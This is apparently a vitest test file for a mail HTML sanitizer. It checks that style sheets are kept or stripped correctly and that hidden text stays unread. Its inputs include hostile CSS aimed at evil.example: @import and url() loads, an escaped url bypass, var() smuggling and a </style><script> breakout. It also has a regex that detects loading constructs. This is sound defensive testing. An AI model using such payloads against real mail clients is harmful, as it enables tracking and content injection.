import { existsSync, readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { visibleText } from '#core/text/html/visible-text.ts'
import { forAllTimes } from '#testing/random/for-all.ts'
import { sanitizeMailHtml } from './sanitize-html.ts'

const sheet = (css: string, body = '') => sanitizeMailHtml(`<style>${css}</style>${body}`, new Set())

/** Checks a sheet as the strictest parser would: only conditions, selectors and declarations, and nothing that loads. */
function expectHarmless(css: string) {
  expect(css).not.toMatch(
    /<|url\s*\(|image-set|expression|javascript|@(?!media )|position\s*:|behavior|content\s*:/i,
  )
  let depth = 0
  for (const char of css) {
    depth += char === '{' ? 1 : char === '}' ? -1 : 0
    expect(depth).toBeGreaterThanOrEqual(0)
    expect(depth).toBeLessThanOrEqual(2)
  }
  expect(depth).toBe(0)
}

describe('a message of a given length is not made much longer', () => {
  const declarations = 'color:red;background:blue;border:1px solid;'
  test.each([
    ['each of many selectors has many declarations', `${'a,'.repeat(4000)}b{${declarations.repeat(400)}}`],
    ['many rules with many declarations apply to everything', `p{${declarations.repeat(10)}}`.repeat(500)],
    ['and hide it', `p{${declarations.repeat(10)}display:none}`.repeat(500)],
    ['by long colours', `p{color:${'red '.repeat(70)};background:rgb(${'1,'.repeat(140)}1)} i{display:none}`],
  ])('%s', (_, css) => {
    const body = '<p>a'.repeat(20_000)
    const { styles, html } = sheet(css, body)
    expect(styles.length).toBeLessThan(700_000)
    expect(html.length).toBeLessThan(20 * body.length)
  })
})

describe('style sheets of mail', () => {
  test.each([
    ['.a{color:red}', '.a{color:red}'],
    ['<!-- p.MsoNormal {margin:0cm; font-size:11.0pt} -->', 'p.MsoNormal{margin:0cm;font-size:11.0pt}'],
    [
      '@media only screen and (max-width:600px){.m{display:block!important}}',
      '@media only screen and (max-width:600px){.m{display:block!important}}',
    ],
    [
      '@media (prefers-color-scheme: dark) { .card, h1 { background-color:#111 } }',
      '@media (prefers-color-scheme:dark){.card{background-color:#111}h1{background-color:#111}}',
    ],
    [
      '.s{box-shadow:0 1px 2px rgba(0,0,0,.2);margin-inline:auto}',
      '.s{box-shadow:0 1px 2px rgba(0,0,0,.2);margin-inline:auto}',
    ],
    ['body{background:#eee;height:100%;min-height:200%}', 'body{background:#eee}'],
    ['p{height:90000px;min-height:100vh;max-height:9999px}', 'p{max-height:9999px}'],
  ])('%s', (css, kept) => expect(sheet(css).styles).toBe(kept))

  test.each([
    '@import url(https://evil.example/x.css);',
    '@import "https://evil.example/x.css";',
    '@font-face{font-family:f;src:url(https://evil.example/f)}',
    '@namespace url(https://evil.example/);',
    '@keyframes k{from{background:url(https://evil.example)}}',
    '@supports (color:red){@import url(x);}',
    'a[href^="h"]{background:url(https://evil.example/h)}',
    'a{background:\\75rl(https://evil.example/h)}',
    'div{position:fixed;z-index:99999;inset:0}',
    'p::before{content:"Signed by Quillbox"}',
    'p{background:image-set("https://evil.example/i" 1x)}',
    ':root{--x:url(https://evil.example/v)}p{background:var(--x)}',
    'p{animation:k 1s;transform:scale(99);filter:url(#x)}',
    '.a:has(.b){color:red}',
    '[x="{}</style><script>"]{color:red}',
  ])('nothing is left of %s', css => {
    const { styles, html } = sheet(css)
    expectHarmless(styles)
    expect(styles).toBe('')
    expect(html).not.toContain('script')
  })

  test('sheets in comments, which are for Outlook, are left out; a medium is kept', () => {
    const { styles } = sanitizeMailHtml(
      '<!--[if mso]><style>.a{color:red}</style><![endif]--><!--[if !mso]><!--><style media="(max-width: 9px)">.b{color:red}</style><!--<![endif]-->',
      new Set(),
    )
    expect(styles).toBe('@media (max-width:9px){.b{color:red}}')
  })

  test('classes and ids are kept where the sheet or a link within the message needs them', () => {
    const { html } = sheet(
      '.a{color:red}',
      '<p class="a b" id="c">x</p><a href="#d">to</a><a name="d">here</a>',
    )
    expect(html).toBe('<p class="a">x</p><a href="#d" target="_self">to</a><a id="d">here</a>')
  })

  test('the page of a message keeps its colours', () => {
    const { html } = sanitizeMailHtml(
      '<body bgcolor="#eee" text="navy" style="height:100%">x</body>',
      new Set(),
    )
    expect(html).toBe('<div class="quillbox-page" style="background-color:#eee;color:navy">x</div>')
  })

  test.each([
    ['.h{display:none}', '<p>seen</p><p class="h">secret</p>'],
    ['@layer a{.h{display:none}}', '<p>seen</p><p class="h">secret</p>'],
    ['@supports (display:block){.h{display:none}}', '<p>seen</p><p class="h">secret</p>'],
    ['@media (min-width:1px){.h{display:none}}', '<p>seen</p><p class="h">secret</p>'],
    ['@media screen and (min-width:1px){.h{display:none}}', '<p>seen</p><p class="h">secret</p>'],
    ['@media all{@layer a{.h{scale:0}}}', '<p>seen</p><p class="h">secret</p>'],
    ['div .h{font-size:0}', '<p>seen</p><div><p><b class="h">secret</b></p></div>'],
    ['#h{color:#ffffff}', '<p>seen</p><p id="h">secret</p>'],
    ['p+p{opacity:0}', '<p>seen</p><p>secret</p>'],
    [
      'table>tbody td.h:first-child{visibility:hidden}',
      '<p>seen</p><table><tbody><tr><td class="h">secret</td></tr></table>',
    ],
  ])('what is hidden by %s, an engine does not read', (css, body) => {
    expect(visibleText(sheet(css, body).html)).not.toContain('secret')
  })

  test('what is hidden on small screens only, it reads', () => {
    const css = '.w{color:#333}@media (max-width:480px){.w{display:none}}.h{display:none}'
    expect(visibleText(sheet(css, '<p class="w">seen</p>').html)).toBe('seen')
  })

  test('whatever it is made of', () => {
    const piece = fc.constantFrom(
      ...[
        '{',
        '}',
        ';',
        ':',
        '(',
        ')',
        '"',
        "'",
        '\\',
        '/*',
        '*/',
        '<!--',
        '-->',
        '<',
        '</',
        ' ',
        ',',
        '\n',
        '@',
        '!important',
      ],
      ...[
        '@media',
        '@import',
        '@font-face',
        '@supports',
        ' screen',
        '(max-width:9px)',
        'url(',
        '\\75rl(',
        'image-set(',
      ],
      ...[
        'p',
        '.a',
        '#b',
        '[c="',
        ':not(',
        '>',
        '&',
        'color',
        'background',
        'position',
        'content',
        'red',
        'https://evil.example',
      ],
    )
    forAllTimes(2000, fc.array(piece, { maxLength: 24 }), pieces =>
      expectHarmless(sheet(pieces.join('')).styles),
    )
  })

  const corpus = new URL('../../../../../shared/corpora/sanitize/dompurify.jsonl', import.meta.url)
  test.skipIf(!existsSync(corpus))('public hostile payloads leave harmless sheets', () => {
    for (const line of readFileSync(corpus, 'utf8').trim().split('\n')) {
      const { html } = JSON.parse(line) as { html: string }
      expectHarmless(sanitizeMailHtml(html, new Set()).styles)
      expectHarmless(sheet(html).styles)
    }
  })
})
